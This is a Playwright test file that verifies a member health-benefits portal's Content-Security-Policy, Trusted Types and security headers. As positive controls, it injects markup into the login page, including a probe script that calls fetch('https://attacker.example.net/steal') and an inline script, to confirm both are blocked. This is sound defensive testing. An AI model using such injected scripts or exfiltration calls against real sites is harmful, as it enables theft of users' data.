import { expect, test, type Page } from '@playwright/test';
import { logInAs } from './support/personas';
import { navigateInApp, settle } from './support/navigation';

/**
 * The app runs under its Content-Security-Policy (adapters/deployment/security-headers.ts): the server the
 * browser tests use sends it like the production host does, and a whole login-to-home journey, and a tour
 * of the main pages, triggers no violation. A positive control proves the listener would have heard one.
 */

const HOME_BANNER = /welcome to your Member Dashboard/;

/** The subscriber's pages, visited under the enforced policy (Trusted Types included). */
const MEMBER_PAGES = [
  '/benefits/summary',
  '/benefits/medical',
  '/benefits/dental',
  '/benefits/vision',
  '/benefits/pharmacy',
  '/benefits/programs',
  '/benefits/referrals',
  '/benefits/medicare-materials',
  '/find-care',
  '/find-care/resources',
  '/find-care/primary-care',
  '/find-care/find-a-dentist',
  '/claims',
  '/eobs',
  '/account/summary',
  '/account/member-information',
  '/account/settings',
  '/account/plan-benefits',
  '/account/ebill',
  '/account/support',
  '/support/customer-service',
  '/contact-us',
  '/home',
];

interface Violations {
  readonly events: () => Promise<string[]>;
  readonly console: string[];
}

/** Records every securitypolicyviolation event (from the first byte of every document) and CSP console error. */
async function recordViolations(page: Page): Promise<Violations> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} blocked ${event.blockedURI || '(inline)'} at ${event.sourceFile}:${event.lineNumber}`);
    });
  });
  const consoleErrors: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to (execute|load|apply|connect|frame|evaluate)/i.test(message.text())) consoleErrors.push(message.text());
  });
  return {
    events: () => page.evaluate(() => (window as unknown as { __cspViolations?: string[] }).__cspViolations ?? []),
    console: consoleErrors,
  };
}

/**
 * Serves /login with markup added to its <head>, as an attacker who could change the page would: written
 * by the parser, not by a script (which Trusted Types would stop before the policy under test).
 */
async function serveLoginWith(page: Page, head: string): Promise<void> {
  await page.route(/\/login$/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('</head>', `${head}</head>`) });
  });
}

/**
 * Waits for a member's page to be all there, so that everything it loads has loaded under the policy: its
 * h1, no spinner left in <main> (its data is in) and the footer's accreditation seal (a late call of its own).
 */
async function settledWithFooter(page: Page): Promise<void> {
  await settle(page);
  await expect(page.locator('.footer__seal img')).toBeVisible({ timeout: 15_000 });
}

test.describe('Content-Security-Policy', { tag: '@one-width' }, () => {
  test('the page is served with a policy that forbids inline script, eval and framing', async ({ page }) => {
    const response = await page.goto('/login');
    const policy = response?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'self'");
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toContain('unsafe-inline');
    expect(policy).not.toContain('unsafe-eval');
    expect(response?.headers()['x-frame-options']).toBe('DENY');
    // The sandbox gateway is same-origin: nothing else may be called.
    expect(policy).toMatch(/connect-src 'self'(;|$)/);
    // Only DOMPurify's policy may make HTML for the page.
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(policy).toContain('trusted-types dompurify');
    expect(response?.headers()['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
    expect(response?.headers()['cross-origin-opener-policy']).toBe('same-origin');
    // The policy travels as a header, which alone can say frame-ancestors: no <meta> copy by default.
    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveCount(0);
  });

  test('the served app publishes no source maps', async ({ page, request }) => {
    await page.goto('/login');
    const scripts = await page.locator('script[src]').evaluateAll((elements) => elements.map((element) => (element as HTMLScriptElement).src));
    expect(scripts.length).toBeGreaterThan(0);
    for (const script of scripts) {
      const body = await (await request.get(script)).text();
      expect(body).not.toContain('sourceMappingURL');
      expect((await request.get(`${script}.map`)).headers()['content-type'] ?? '').not.toContain('json');
    }
  });

  test('the scripts and stylesheets come compressed ahead, Brotli first, with the security headers and kept a year', async ({ page, request }) => {
    await page.goto('/login');
    const loginAssets = await page
      .locator('script[src], link[rel="modulepreload"], link[rel="stylesheet"]')
      .evaluateAll((elements) => elements.map((element) => element.getAttribute('src') ?? element.getAttribute('href') ?? ''));
    // The member app's page (index.html) also lists the core, which the login page leaves out.
    const memberPage = await (await request.get('/benefits')).text();
    const memberAssets = [...memberPage.matchAll(/\b(?:src|href)="(\/assets\/[^"]+)"/g)].map((match) => match[1] ?? '');
    const assets = [...new Set([...loginAssets, ...memberAssets])];
    expect(assets.some((asset) => /\/core-[^/]+\.js$/.test(asset))).toBe(true);
    let compressed = 0;
    for (const asset of assets) {
      const brotli = await request.get(asset, { headers: { 'Accept-Encoding': 'br, gzip' } });
      expect(brotli.headers()['x-content-type-options']).toBe('nosniff');
      expect(brotli.headers()['cache-control']).toContain('immutable');
      // A file under 1 KB gains nothing: it travels as it is.
      if ((await brotli.body()).length < 1024) continue;
      expect(brotli.headers()['content-encoding']).toBe('br');
      const gzip = await request.get(asset, { headers: { 'Accept-Encoding': 'gzip' } });
      expect(gzip.headers()['content-encoding']).toBe('gzip');
      const plain = await request.get(asset, { headers: { 'Accept-Encoding': 'identity' } });
      expect(plain.headers()['content-encoding']).toBeUndefined();
      // The same file, whichever way it travelled: no compressed copy left behind by a later change.
      expect((await brotli.body()).equals(await plain.body()), asset).toBe(true);
      expect((await gzip.body()).equals(await plain.body()), asset).toBe(true);
      compressed += 1;
    }
    expect(compressed).toBeGreaterThan(3);
  });

  test('Trusted Types are enforced: writing HTML into the page outside DOMPurify is refused and reported', async ({ page }) => {
    const violations = await recordViolations(page);
    await page.goto('/login');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const outcome = await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<b id="tt-probe">x</b>');
        return 'written';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : String(error);
      }
    });
    expect(outcome).toBe('refused');
    await expect.poll(async () => (await violations.events()).some((event) => event.startsWith('require-trusted-types-for'))).toBe(true);
  });

  test('eval and calls to a foreign origin are refused', async ({ page }) => {
    const violations = await recordViolations(page);
    // A same-origin script (allowed by script-src 'self') that tries what the policy forbids. It must come
    // from the page itself: code the test runner evaluates through DevTools is exempt from the policy.
    const probe = `
      let evaluated = 'ran';
      try { (0, eval)('1 + 1'); } catch (error) { evaluated = error instanceof EvalError ? 'refused' : String(error); }
      window.__cspProbe = fetch('https://attacker.example.net/steal').then(
        () => ({ evaluated, fetched: 'answered' }),
        () => ({ evaluated, fetched: 'refused' }),
      );`;
    await page.route('**/csp-probe.js', (route) => route.fulfill({ contentType: 'text/javascript', body: probe }));
    await serveLoginWith(page, '<script src="/csp-probe.js"></script>');
    await page.goto('/login');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.waitForFunction(() => '__cspProbe' in window);
    const outcome = await page.evaluate(() => (window as unknown as { __cspProbe: Promise<unknown> }).__cspProbe);
    expect(outcome).toEqual({ evaluated: 'refused', fetched: 'refused' });
    await expect.poll(async () => (await violations.events()).some((event) => event.startsWith('connect-src'))).toBe(true);
    // eval is refused by script-src (no 'unsafe-eval') or, first, by Trusted Types (a string is no TrustedScript).
    expect((await violations.events()).some((event) => /^(script-src|require-trusted-types-for)/.test(event))).toBe(true);
  });

  test('a login-to-home journey and a tour of every member page trigger no violation', async ({ page }) => {
    const violations = await recordViolations(page);
    await logInAs(page, 'subscriber');
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(HOME_BANNER);
    expect(await violations.events()).toEqual([]);
    // Client-side navigation keeps the same document and its listener; each page must settle first.
    for (const path of MEMBER_PAGES) {
      await navigateInApp(page, path);
      await settledWithFooter(page);
    }
    expect(await violations.events()).toEqual([]);
    expect(violations.console).toEqual([]);
  });

  test("a visitor's pages trigger no violation either", async ({ page }) => {
    const violations = await recordViolations(page);
    for (const path of ['/login', '/contact-us', '/registration', '/recovery/username', '/recovery/password', '/error/500']) {
      await page.goto(`${path}?domain=1`);
      // A visitor's footer has no seal until the visitor acts; a refusal coming later still shows in the
      // console, which is checked at the end.
      await settle(page);
      expect(await violations.events(), path).toEqual([]);
    }
    expect(violations.console).toEqual([]);
  });

  test('the policy is enforced: an injected inline script does not run and is reported', async ({ page }) => {
    const violations = await recordViolations(page);
    await serveLoginWith(page, '<script>window.__inlineRan = true;</script>');
    await page.goto('/login');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan === true)).toBe(false);
    await expect.poll(async () => (await violations.events()).length).toBeGreaterThan(0);
    for (const event of await violations.events()) expect(event).toMatch(/^script-src(-elem)? blocked inline/);
  });
});
